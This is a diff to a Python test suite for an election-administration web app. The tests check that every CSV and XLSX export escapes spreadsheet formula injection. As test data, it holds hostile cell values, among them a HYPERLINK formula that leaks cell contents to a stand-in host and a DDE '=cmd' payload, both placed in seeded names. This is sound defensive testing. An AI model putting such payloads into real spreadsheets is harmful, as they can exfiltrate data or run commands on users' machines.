@@ -5,11 +5,19 @@ from __future__ import annotations
 import csv
 import io
 from datetime import date
+from types import SimpleNamespace
 
 import pytest
+from factories_ballots import csv_bytes as roll_csv, import_through_pages, roll_rows
+from factories_counting import client_for, enter_twice, figures
 from openpyxl import load_workbook
 
-from core.spreadsheets import SheetSpec, csv_bytes, export_filename, workbook_bytes
+from core.accounts import Role
+from core.models import Person
+from core.spreadsheets import XLSX_MIMETYPE, SheetSpec, csv_bytes, export_filename, workbook_bytes
+from core.vietnamese import vietnam_today
+from election.models import VoterEntry
+from extensions import db
 
 DANGEROUS = ['=HYPERLINK("http://x?d="&B3,"bấm")', "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd", "=1+1"]
 UNSAFE_START = ("=", "+", "-", "@", "\t", "\r")
@@ -78,3 +86,111 @@ def test_csv_is_utf8_with_a_bom_and_crlf_with_plain_numbers_and_dates():
 def test_export_file_names_say_what_and_when():
     assert export_filename("ket-qua-bau-truong-thon", "D01", date(2025, 5, 25), "xlsx") == \
         "ket-qua-bau-truong-thon-d01-2025-05-25.xlsx"
+
+
+# ---------------------------------------------------------------------------------------------------------
+# Every export route of the app, with hostile names in the data
+# ---------------------------------------------------------------------------------------------------------
+
+HYPERLINK = DANGEROUS[0]
+EXPORT_ENDPOINTS = {  # endpoint -> the URLs the walk fetches (filled in from the seeded world)
+    "election.board_csv", "election.board_xlsx", "election.roll_template", "election.roll_export",
+    "candidates.import_template", "chapters.dashboard_xlsx", "training.export_enrolments", "training.export_coverage",
+}
+
+
+def _looks_like_an_export(rule) -> bool:
+    return rule.rule.endswith((".xlsx", ".csv")) or ".<" in rule.rule or \
+        any(word in rule.endpoint for word in ("export", "xlsx", "csv", "workbook"))
+
+
+def test_every_export_route_is_walked_below(app):
+    assert {rule.endpoint for rule in app.url_map.iter_rules() if _looks_like_an_export(rule)} == EXPORT_ENDPOINTS
+
+
+@pytest.fixture
+def hostile(election, make_commune, make_user, make_person, make_position, make_course, login, client):
+    """A district whose communes, hamlets, people, voter roll, candidates, course and positions carry names that a
+    spreadsheet would read as formulas; a counted poll with a winner; the users who may export."""
+    commune = make_commune("-2+3")
+    setup = election(households=100, present=80, names=(HYPERLINK, "+1+1"), commune=commune,
+                     hamlet_name="@SUM(A1)")
+    enter_twice(setup, figures(setup, 80, 80, 80, 0, 60, 20))
+    hamlet, term = setup.hamlet, setup.term
+    other = election(households=20, present=None, names=("\tTab đầu",), commune=make_commune(
+        "=1+1", district=commune.district), hamlet_name="\rXuống dòng")
+    login(setup.committee)
+    import_through_pages(client, hamlet, roll_csv(roll_rows(3)))
+    client.post("/logout")
+    for n, (entry, name) in enumerate(zip(db.session.scalars(db.select(VoterEntry)), DANGEROUS, strict=False)):
+        entry.full_name, entry.address, entry.household_no = name, "-Xóm 1", f"+{n}"
+    chief = make_person("=cmd|' /C calc'!A0", hamlet=hamlet)
+    make_position(chief)
+    make_position(make_person("@Trưởng thôn", hamlet=other.hamlet))
+    course = make_course(term, sessions=2, posts=["hamlet_chief"], name="=Khóa")
+    for person in (chief, *setup.candidates[0:1]):
+        course.enrol(person if isinstance(person, Person) else person.person, date(2022, 6, 1))
+    db.session.commit()
+    office = make_user(Role.DISTRICT_OFFICE, district=commune.district)
+    return SimpleNamespace(setup=setup, other=other, course=course, users=[office, setup.committee, other.committee])
+
+
+def _urls(world) -> dict[str, list[str]]:
+    hamlet, commune_id, course_id = world.setup.hamlet, world.setup.hamlet.commune_id, world.course.id
+    return {
+        "election.board_csv": ["/board.csv", f"/board.csv?commune_id={commune_id}"],
+        "election.board_xlsx": ["/board.xlsx", f"/board.xlsx?commune_id={commune_id}"],
+        "election.roll_template": ["/roll-template.csv", "/roll-template.xlsx"],
+        "election.roll_export": [f"/hamlets/{hamlet.id}/roll.xlsx"],
+        "candidates.import_template": [f"/candidates/import/template.xlsx?commune_id={commune_id}"],
+        "chapters.dashboard_xlsx": ["/chapters/dashboard.xlsx"],
+        "training.export_enrolments": [f"/training/courses/{course_id}/enrolments.xlsx"],
+        "training.export_coverage": ["/training/coverage.xlsx", f"/training/coverage.xlsx?commune_id={commune_id}"],
+    }
+
+
+def test_no_export_writes_a_formula_even_from_hostile_names(app, hostile):
+    urls = _urls(hostile)
+    assert set(urls) == EXPORT_ENDPOINTS
+    fetched: dict[str, int] = dict.fromkeys(EXPORT_ENDPOINTS, 0)
+    escaped: dict[str, int] = dict.fromkeys(EXPORT_ENDPOINTS, 0)
+    for user in hostile.users:
+        client = client_for(app, user)
+        for endpoint, paths in urls.items():
+            for path in paths:
+                response = client.get(path)
+                if response.status_code in (403, 404):
+                    continue  # not this user's export
+                assert response.status_code == 200, (user.role, path)
+                assert response.headers["Content-Disposition"].startswith("attachment; filename=")
+                if response.mimetype == "text/csv":
+                    fields = csv_fields(response.data)
+                    assert_no_formula_fields(fields)
+                    escaped[endpoint] += sum(field.startswith("'") for field in fields)
+                else:
+                    assert response.mimetype == XLSX_MIMETYPE, path
+                    cells = workbook_cells(response.data)
+                    assert_no_formula(cells)
+                    escaped[endpoint] += sum(isinstance(c.value, str) and c.value.startswith("'") for c in cells)
+                fetched[endpoint] += 1
+    assert all(fetched.values()), fetched  # every export was fetched by a user allowed to
+    # The hostile names did reach every file that lists names, escaped; the templates list none (or, for the
+    # candidate template, "Thôn @SUM(A1)": the kind comes first).
+    assert {endpoint for endpoint, count in escaped.items() if not count} == \
+        {"election.roll_template", "candidates.import_template"}, escaped
+
+
+def test_export_names_say_district_or_commune_and_day(app, hostile):
+    office, committee = hostile.users[0], hostile.users[1]
+    commune, district = hostile.setup.hamlet.commune, hostile.setup.hamlet.commune.district
+    today = vietnam_today().isoformat()
+
+    def name(user, path: str) -> str:
+        return client_for(app, user).get(path).headers["Content-Disposition"]
+
+    assert name(office, "/board.xlsx").endswith(f'filename=ket-qua-bau-truong-thon-{district.code.lower()}-{today}.xlsx')
+    assert name(office, f"/board.csv?commune_id={commune.id}").endswith(
+        f"filename=ket-qua-bau-truong-thon-{commune.code.lower()}-{today}.csv")
+    assert name(committee, "/training/coverage.xlsx").endswith(f"bao-phu-boi-duong-{commune.code.lower()}-{today}.xlsx")
+    assert name(office, "/chapters/dashboard.xlsx?as_of=2025-06-30").endswith(
+        f"chi-tieu-{district.code.lower()}-2025-06-30.xlsx")
